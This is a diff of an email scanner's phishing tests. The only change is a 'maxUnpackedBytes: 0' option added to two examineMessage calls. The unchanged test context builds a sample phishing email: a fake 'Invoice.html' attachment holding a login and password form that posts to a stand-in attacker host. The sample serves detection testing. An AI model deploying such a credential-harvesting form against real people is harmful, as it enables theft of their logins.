@@ -21,7 +21,12 @@ async function judge({
 }: Mail) {
   const type = html === undefined ? 'text/plain' : 'text/html';
   const source = `From: ${from}\r\nSubject: ${subject}\r\n${headers}Content-Type: ${type}; charset=utf-8\r\n\r\n${html ?? text}\r\n`;
-  const { hits } = await examineMessage(Buffer.from(source), { withContent: true, withImages: false, sender });
+  const { hits } = await examineMessage(Buffer.from(source), {
+    withContent: true,
+    withImages: false,
+    maxUnpackedBytes: 0,
+    sender,
+  });
   return hits.find(({ scanner }) => scanner === 'phishing')?.reason;
 }
 
@@ -140,7 +145,12 @@ describe('phishing', () => {
     const page =
       '<html><form method=post action="https://evil.test/p.php"><input name=login><input type=password></form>';
     const source = `From: a@x.test\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nsee file\r\n--b\r\nContent-Type: application/octet-stream; name="Invoice.html"\r\nContent-Disposition: attachment; filename="Invoice.html"\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(page).toString('base64')}\r\n--b--\r\n`;
-    const { hits } = await examineMessage(Buffer.from(source), { withContent: true, withImages: false, sender: {} });
+    const { hits } = await examineMessage(Buffer.from(source), {
+      withContent: true,
+      withImages: false,
+      maxUnpackedBytes: 0,
+      sender: {},
+    });
     expect(hits).toMatchObject([{ scanner: 'phishing', part: 'Invoice.html' }]);
   });
 
